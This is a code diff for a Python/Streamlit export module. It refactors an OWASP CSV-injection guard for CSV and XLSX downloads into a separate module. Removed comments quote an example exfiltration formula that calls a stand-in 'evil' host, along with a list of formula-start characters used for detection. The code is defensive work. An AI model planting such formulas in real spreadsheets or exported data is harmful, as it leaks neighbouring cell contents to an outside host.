@@ -1,12 +1,8 @@
 """Results as downloadable files: CSV, Parquet, XLSX (ids kept as text, times as UTC without a zone).
 
-Public posts are untrusted text. A spreadsheet may treat a cell that begins with `=`, `+`, `-`, `@`, a tab or a
-carriage return as a formula: `=HYPERLINK("http://evil/?"&A1,"click")` in a post would become a live link that
-leaks the cell beside it. CSV and XLSX files therefore get OWASP's guard (CSV injection): such text (also behind
-leading spaces, and the full-width forms) is prefixed with a single quote, so the spreadsheet shows it as text;
-in XLSX openpyxl writes it as a string cell, never a formula (openpyxl turns any string starting with `=` into
-one). Numbers stay numbers, and text that is only a number (`-5`, `+1.5e3`) cannot run and is left alone.
-Parquet is data, not a spreadsheet: it keeps the original text.
+Public posts are untrusted text: CSV and XLSX files get OWASP's formula guard (storage/csvsafe.py); in XLSX
+openpyxl writes guarded text as a string cell, never a formula (openpyxl turns any string starting with `=` into
+one). Parquet is data, not a spreadsheet: it keeps the original text.
 """
 
 from __future__ import annotations
@@ -15,7 +11,6 @@ import decimal
 import functools
 import io
 import logging
-import re
 from collections.abc import Callable
 
 import numpy as np
@@ -25,48 +20,21 @@ import pyarrow.parquet as pq
 import streamlit as st
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
+from storage.csvsafe import csv_text, formula_safe
+
 FORMATS = {
     "CSV": ("csv", "text/csv"),
     "Parquet": ("parquet", "application/vnd.apache.parquet"),
     "XLSX": ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
 }
 XLSX_MAX_ROWS = 1_048_575
-# OWASP's list, and the full-width forms that some spreadsheets (Excel with a Japanese input method) also take
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
-GUARD = "'"
-PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
 Recorder = Callable[[str, int], None]  # (format, rows) -> None; raises if the download cannot be recorded
 log = logging.getLogger(__name__)
 
 
-def guard_text(value: object) -> object:
-    """`value` with OWASP's quote in front when a spreadsheet could read it as a formula; anything else as is.
-
-    Leading spaces and line feeds are looked past: some importers trim them before deciding.
-    """
-    if not isinstance(value, str):
-        return value
-    start = value.lstrip(" \n")
-    return GUARD + value if start.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(start) else value
-
-
-def formula_safe(frame: pd.DataFrame) -> pd.DataFrame:
-    """Every text cell and column name guarded; numeric, time and boolean columns untouched."""
-    out = frame.rename(columns=guard_text)
-    for i in range(out.shape[1]):
-        series = out.iloc[:, i]
-        if isinstance(series.dtype, pd.CategoricalDtype):
-            series = series.astype(object)
-        if series.dtype == object or isinstance(series.dtype, pd.StringDtype):
-            out.isetitem(i, series.map(guard_text))
-    return out
-
-
 def to_bytes(frame: pd.DataFrame, fmt: str) -> bytes:
     if fmt == "CSV":
-        # CRLF line ends (RFC 4180) also make the writer quote a field holding a lone carriage return, which
-        # spreadsheets read as a new row: "hi\r=HYPERLINK(…)" would otherwise start a row with a formula
-        return formula_safe(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8")
+        return csv_text(frame).encode("utf-8")
     if fmt == "Parquet":
         sink = io.BytesIO()
         pq.write_table(pa.Table.from_pandas(frame, preserve_index=False), sink)
